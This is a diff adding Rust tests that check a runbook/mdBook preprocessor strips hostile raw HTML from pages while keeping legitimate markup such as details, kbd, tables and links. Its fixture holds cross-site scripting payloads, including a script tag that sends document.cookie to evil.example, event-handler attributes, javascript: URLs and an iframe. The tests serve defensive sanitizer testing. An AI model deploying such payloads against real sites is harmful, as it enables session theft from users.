@@ -151,6 +151,69 @@ fn a_page_opening_with_a_horizontal_rule_passes_through() {
     assert_eq!(chapters(&book)[0].content, page);
 }
 
+/// A runbook whose prose holds what would run in a reader's browser, next to
+/// the markup an author legitimately uses.
+const HOSTILE: &str = r#"# Hostile
+
+## Background {#bg .wide onmouseover=alert(5)}
+
+<script>document.location='https://evil.example/?c='+document.cookie</script>
+
+Text <img src="x.png" onerror="alert(1)"> and [click](javascript:alert(2)) and
+<a href="JaVaScRiPt:alert(3)">this</a>.
+
+<iframe src="https://evil.example/frame"></iframe>
+
+<details>
+<summary>Background</summary>
+
+Press <kbd>Ctrl</kbd>+<kbd>C</kbd>; see [the doc](https://example.com/doc) and [the other](other.md).
+
+</details>
+
+| env | value |
+|-----|-------|
+| prod | `<b>` |
+
+```bash {#a read}
+echo '<script>'
+```
+"#;
+
+#[test]
+fn a_pages_raw_html_is_cleaned_and_its_markup_kept() {
+    let t = Test::new();
+    let input =
+        book_input(t.path(), &[("hostile.md", HOSTILE), ("wiki.md", "# Wiki\n\n<img src=x onerror=alert(4)>\n")]);
+    let f = t.args(["mdbook"]).stdin(&input).status(0).run();
+    let book: Book = serde_json::from_str(&f.stdout).expect("a book on stdout");
+    let ch = chapters(&book);
+    let page = &ch[0].content;
+    // The plan quotes the heading as text (`— Background {#bg …}`): the
+    // handler must be gone from the heading itself.
+    for gone in [
+        "<script>document",
+        "document.cookie",
+        "onerror",
+        "javascript:alert(2)",
+        "JaVaScRiPt",
+        "<iframe",
+        "alert(5)}\n",
+    ] {
+        assert!(!page.contains(gone), "{gone} is left:\n{page}");
+    }
+    for kept in [
+        "## Background {#bg .wide}\n",
+        "Text <img src=\"x.png\"> and click and\n<a>this</a>.\n",
+        "<details>\n<summary>Background</summary>\n\nPress <kbd>Ctrl</kbd>+<kbd>C</kbd>; see [the doc](https://example.com/doc) and [the other](other.md).\n\n</details>\n",
+        "| env | value |\n|-----|-------|\n| prod | `<b>` |\n",
+        "<code class=\"language-bash\">echo '&lt;script&gt;'</code>",
+    ] {
+        assert!(page.contains(kept), "{kept:?} is not kept:\n{page}");
+    }
+    assert_eq!(ch[1].content, "# Wiki\n\n<img src=\"x\">\n", "a page that is not a runbook is cleaned too");
+}
+
 #[test]
 fn broken_runbook_fails_the_book_with_its_location() {
     let t = Test::new();
@@ -283,6 +346,35 @@ fn build_book_fails_on_an_unrendered_command() {
         ),
         "{stderr}"
     );
+}
+
+/// What mdBook makes of a hostile page: no handler, no script of the
+/// author's, no frame, no `javascript:` URL; the author's markup is there.
+#[test]
+fn build_book_serves_no_script_of_a_pages_author() {
+    if !mdbook_available() {
+        return;
+    }
+    let t = tiny_book().runbook("other", HOSTILE);
+    let out = build_book(t.path());
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    let page = std::fs::read_to_string(t.path().join("book/other.html")).unwrap();
+    let main = &page[page.find("<main>").expect("a <main>")..page.find("</main>").expect("a </main>")];
+    for gone in ["<script", "document.cookie", "onerror", "onmouseover=\"", "javascript:", "<iframe"] {
+        assert!(!main.to_lowercase().contains(&gone.to_lowercase()), "{gone} is left:\n{main}");
+    }
+    for kept in [
+        "<details>",
+        "<summary>Background</summary>",
+        "<kbd>Ctrl</kbd>",
+        "href=\"https://example.com/doc\"",
+        "href=\"other.html\"",
+        "<table>",
+        "<img src=\"x.png\"",
+    ] {
+        assert!(main.contains(kept), "{kept} is not kept:\n{main}");
+    }
+    assert!(main.contains("id=\"bg\""), "{main}");
 }
 
 #[test]
